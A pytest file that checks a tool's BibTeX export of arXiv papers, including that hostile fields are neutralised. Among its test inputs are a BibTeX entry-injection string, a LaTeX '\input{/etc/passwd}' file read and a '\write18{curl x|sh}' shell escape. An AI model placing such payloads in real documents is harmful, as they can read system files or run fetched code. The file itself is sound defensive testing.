"""BibTeX entries in arXiv's style, read back by a real BibTeX parser."""

from __future__ import annotations

import bibtexparser
import pytest
from bibtexparser import middlewares
from pylatexenc.latex2text import LatexNodes2Text, MacroTextSpec, get_default_latex_context_db

from arxiv_digest.model.paper import Author, Paper
from arxiv_digest.pages.bibtex import bibtex_entry, bibtex_file, citation_key
from arxiv_digest.pages.richtext import plain_text
from arxiv_digest_dev.recorded import recorded_papers


def reader() -> LatexNodes2Text:
    """LaTeX as a reader sees it: text decoded, math kept as TeX. pylatexenc lacks a few
    standard LaTeX text commands; they are given their LaTeX meaning here."""
    context = get_default_latex_context_db()
    context.add_context_category(
        "latex-text-symbols",
        prepend=True,
        macros=[
            MacroTextSpec("textbraceleft", "{"),
            MacroTextSpec("textbraceright", "}"),
            MacroTextSpec("textasciitilde", "~"),
            MacroTextSpec("textasciicircum", "^"),
        ],
    )
    return LatexNodes2Text(math_mode="verbatim", latex_context=context)


def read_back(bib: str) -> list[dict]:
    """Each entry's fields as a BibTeX parser reads them, TeX decoded; authors as a list."""
    library = bibtexparser.parse_string(bib, append_middleware=[middlewares.SeparateCoAuthors()])
    assert library.failed_blocks == []
    decode = reader().latex_to_text
    entries = []
    for entry in library.entries:
        fields = {field.key: field.value for field in entry.fields}
        fields["author"] = [decode(name) for name in fields.get("author", [])]
        fields["title"] = decode(fields["title"])
        entries.append({"key": entry.key, "type": entry.entry_type, **fields})
    return entries


def make_paper(title: str = "Attention Is All You Need", authors=("Ashish Vaswani",), **kw):
    values = {
        "id": "1706.03762",
        "version": 7,
        "primary_category": "cs.CL",
        "updated": "2023-08-02T00:41:18Z",
        "published": "2017-06-12T17:57:34Z",
    }
    values.update(kw)
    return Paper(title=title, authors=tuple(Author(name) for name in authors), **values)


def test_entry_has_arxivs_fields_and_key():
    paper = make_paper(authors=("Ashish Vaswani", "Noam Shazeer"), doi="10.5555/3295222")
    [entry] = read_back(bibtex_entry(paper))
    assert entry == {
        "key": "vaswani2023attentionneed",
        "type": "misc",
        "title": "Attention Is All You Need",
        "author": ["Ashish Vaswani", "Noam Shazeer"],
        "year": "2023",
        "eprint": "1706.03762",
        "archivePrefix": "arXiv",
        "primaryClass": "cs.CL",
        "doi": "10.5555/3295222",
        "url": "https://arxiv.org/abs/1706.03762",
    }


def test_title_capitals_are_protected():
    assert "  title = {{LoRA: Low-Rank Adaptation}}," in bibtex_entry(
        make_paper("LoRA: Low-Rank Adaptation")
    )


@pytest.mark.parametrize(
    ("title", "key"),
    [
        ("LoRA: Low-Rank Adaptation of Large Language Models", "hu2021loralowrankadaptation"),
        ("Attention Is All You Need", "hu2021attentionneed"),
        ("On the $\\alpha$-Divergence", "hu2021alphadivergence"),
        ("中文标题", "hu2021zhongwenbiao"),
    ],
)
def test_key_is_last_name_year_and_three_words(title, key):
    paper = make_paper(title, authors=("Edward J. Hu",), updated="2021-06-17T00:00:00Z")
    assert citation_key(paper) == key


def test_key_of_a_name_with_a_suffix_uses_the_last_name():
    assert citation_key(make_paper(authors=("Shaquille O'Neil {Jr.}",))).startswith("oneil2023")


HARD_TITLES = [
    "}{",
    "Unbalanced { brace",
    "Unbalanced } brace",
    "Set \\{1, 2\\} and braces {kept}",
    "Percent % ampersand & hash # underscore _ tilde ~ caret ^",
    "A lone \\ backslash",
    "Costs \\$5 or $10 dollars",
    "Bounds in $O(n^{2})$ and $\\tilde{O}(\\sqrt{T})$ time",
    "Unbalanced math $a{$ here",
    "Accents: Schrödinger, Erdős, Ångström, naïve",
    "Scripts: 深度学习, Глубокое обучение, التعلم العميق, ग्रंथ",
    "@misc{evil, title={x}}",
]


@pytest.mark.parametrize("title", HARD_TITLES)
def test_hard_title_reads_back_as_the_stored_text(title):
    [entry] = read_back(bibtex_entry(make_paper(title)))
    # What the store's TeX text means: math as TeX, \$ as a dollar sign.
    assert entry["title"] == plain_text(title)


HARD_AUTHORS = [
    "O'Neil {Jr.}",
    "Research and Development Team",
    "Zoë Ñúñez-García",
    "李小龙",
    "A_B %C &D #E $F ~G ^H \\I",
    "}{",
    "%percent first",
]


def test_hard_authors_read_back_exactly():
    [entry] = read_back(bibtex_entry(make_paper(authors=HARD_AUTHORS)))
    assert entry["author"] == HARD_AUTHORS


def test_an_author_list_the_source_cut_short_ends_in_and_others():
    names = ("Ada Lovelace", "Charles Babbage")
    entry = bibtex_entry(make_paper(authors=names, authors_truncated=True))
    assert "author = {Ada Lovelace and Charles Babbage and others}" in entry
    assert read_back(entry)[0]["author"] == [*names, "others"]
    assert "and others" not in bibtex_entry(make_paper(authors=names))


def test_a_category_or_year_that_could_end_its_field_is_left_out():
    evil = "cs.LG}} @misc{injected, title={Pwned}, url={https://evil.example}"
    entry = bibtex_entry(make_paper(primary_category=evil, updated="20}}-01-01"))
    entries = read_back(entry)
    assert [(e["key"], e["eprint"]) for e in entries] == [("vaswaniattentionneed", "1706.03762")]
    assert "primaryClass" not in entry
    assert "year" not in entry
    assert "injected" not in entry


@pytest.mark.parametrize(
    "tex",
    [r"$\input{/etc/passwd}$", r"$\immediate\write18{curl x|sh}$", r"$\end{thebibliography}$"],
)
def test_math_that_does_more_than_typeset_is_written_as_text(tex):
    title = f"Bounds {tex} here"
    entry = bibtex_entry(make_paper(title))
    assert tex not in entry
    assert read_back(entry)[0]["title"] == plain_text(title)


def test_a_doi_that_cannot_be_written_verbatim_is_left_out():
    entry = bibtex_entry(make_paper(doi="10.1/x}\\evil"))
    assert "doi" not in entry
    assert read_back(entry)[0]["eprint"] == "1706.03762"


def test_bib_file_holds_each_eprint_once_in_key_order_with_distinct_keys():
    papers = [
        make_paper("Deep Nets", id="2601.00003", authors=("Jane Smith",), version=1),
        make_paper("Deep Nets", id="2601.00002", authors=("Jane Smith",), version=1),
        make_paper("Another Thing", id="2601.00001", authors=("Adam Brown",), version=1),
        make_paper("Deep Nets Revised", id="2601.00003", authors=("Jane Smith",), version=2),
    ]
    bib = bibtex_file(papers)
    entries = read_back(bib)
    assert [(e["key"], e["eprint"]) for e in entries] == [
        ("brown2023anotherthing", "2601.00001"),
        ("smith2023deepnets", "2601.00002"),
        ("smith2023deepnetsrevised", "2601.00003"),
    ]
    assert bibtex_file(reversed(papers)) == bib


def test_papers_sharing_a_key_are_told_apart():
    papers = [
        make_paper("Deep Nets", id=f"2601.0000{n}", authors=("Jane Smith",)) for n in (1, 2, 3)
    ]
    keys = [e["key"] for e in read_back(bibtex_file(papers))]
    assert keys == ["smith2023deepnets", "smith2023deepnetsb", "smith2023deepnetsc"]


def test_real_recorded_papers_read_back():
    papers = recorded_papers()
    entries = read_back(bibtex_file(papers))
    assert len(entries) == len({paper.id for paper in papers})
    by_id = {entry["eprint"]: entry for entry in entries}
    for paper in papers:
        entry = by_id[paper.id]
        # LaTeX reads "--" in a title as an en dash, as its arXiv author meant.
        assert entry["title"] == plain_text(paper.title).replace("--", "\u2013")
        assert entry["author"] == [author.name for author in paper.authors]
